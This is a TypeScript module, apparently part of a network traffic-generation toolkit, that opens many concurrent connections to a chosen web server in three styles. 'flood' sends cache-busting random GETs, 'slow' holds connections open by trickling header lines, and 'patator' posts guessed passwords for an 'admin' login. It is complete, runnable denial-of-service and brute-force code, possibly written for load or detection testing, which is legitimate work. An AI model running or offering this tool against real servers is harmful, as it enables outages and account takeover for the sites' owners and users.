/** Many connections to a web server, with one request or a few on each. */

import type { Socket } from 'node:net'
import { exchange } from './exchange.js'
import { createOutcomes } from './outcomes.js'
import { paceOf, runPaced } from './paced.js'
import { startProgram } from './program.js'

const styles = ['patator', 'flood', 'slow'] as const
const program = startProgram('http-flood', 'connections that ask and ask', {
  target: [undefined, 'address of the server'],
  port: ['8080', 'port of the server'],
  style: [
    'flood',
    'flood: GET with a random query; patator: POST /login; slow: a request that takes seconds',
  ],
  'request-bytes': ['0', 'request header filled up to this many bytes, N or MIN-MAX'],
  requests: ['1', 'requests on a connection, one after the other, N or MIN-MAX; slow: always 1'],
  bind: ['', 'own address'],
  rate: ['0', 'connections a second; 0 means flat out'],
  count: ['0', 'end after this many connections; 0 means by duration'],
  concurrency: ['20', 'connections under way at once, at most'],
  timeout: ['1000', 'ms until a connection counts as timed out; slow: beyond the time its request takes'],
  hold: ['5000', 'slow only: ms that each request takes'],
  interval: ['500', 'slow only: ms between two lines of a request'],
})
const style = program.choice('style', styles)
const holdMs = style === 'slow' ? program.number('hold') : 0
const intervalMs = program.number('interval', 1)
const requests = program.size('requests')
const requestBytes = program.size('request-bytes')
const peer = {
  target: program.text('target'),
  port: program.number('port', 1),
  bind: program.text('bind'),
  timeoutMs: program.number('timeout', 1) + holdMs,
  signal: program.signal,
  lingerMs: program.number('timeout', 1),
}
const outcomes = createOutcomes(program)
let open = 0
program.tellProgress(() => ({ open }))
await runPaced(paceOf(program), async (n) => {
  open++
  let left = style === 'slow' ? 1 : Math.max(1, requests())
  let answer = ''
  const { outcome, error, text } = await exchange(peer, (socket, received) => {
    answer += received
    if (received !== '' && !isWhole(answer)) return
    answer = ''
    if (left-- > 0) talk(socket, requestOf(n, left === 0))
  })
  open--
  outcomes.take(outcome, {
    attempt: n,
    ...(error === '' ? {} : { error }),
    ...(text === '' ? {} : { status: text.slice(9, 12) }),
  })
})
outcomes.finish()

/** Sends the request at once, or line by line over the hold time. */
function talk(socket: Socket, request: string): void {
  if (style !== 'slow') {
    socket.write(request)
    return
  }
  socket.write(request.slice(0, -2))
  const begin = performance.now()
  const timer = setInterval(() => {
    if (performance.now() - begin >= holdMs) finish()
    else socket.write(`X-Slow: ${Math.round(performance.now())}\r\n`)
  }, intervalMs)
  const finish = () => {
    clearInterval(timer)
    if (!socket.destroyed) socket.write('\r\n')
  }
  program.signal.addEventListener('abort', finish)
  socket.on('close', () => {
    clearInterval(timer)
    program.signal.removeEventListener('abort', finish)
  })
}

/** Whether an answer is there to the last byte of its body. */
function isWhole(answer: string): boolean {
  const head = answer.indexOf('\r\n\r\n')
  const length = /^content-length: (\d+)/im.exec(answer)?.[1]
  return head >= 0 && length !== undefined && answer.length >= head + 4 + Number(length)
}

function requestOf(n: number, isLast: boolean): string {
  const body = style === 'patator' ? `user=admin&password=guess${n}` : ''
  const first = style === 'patator' ? 'POST /login' : style === 'flood' ? `GET /?q=${Math.random()}` : 'GET /'
  const lines = [`${first} HTTP/1.1`, `Host: ${peer.target}`]
  if (isLast) lines.push('Connection: close')
  if (body !== '')
    lines.push('Content-Type: application/x-www-form-urlencoded', `Content-Length: ${body.length}`)
  const missing = requestBytes() - lines.join('\r\n').length - '\r\nX-Fill: \r\n\r\n'.length
  if (missing > 0) lines.push(`X-Fill: ${'x'.repeat(missing)}`)
  return `${lines.join('\r\n')}\r\n\r\n${body}`
}
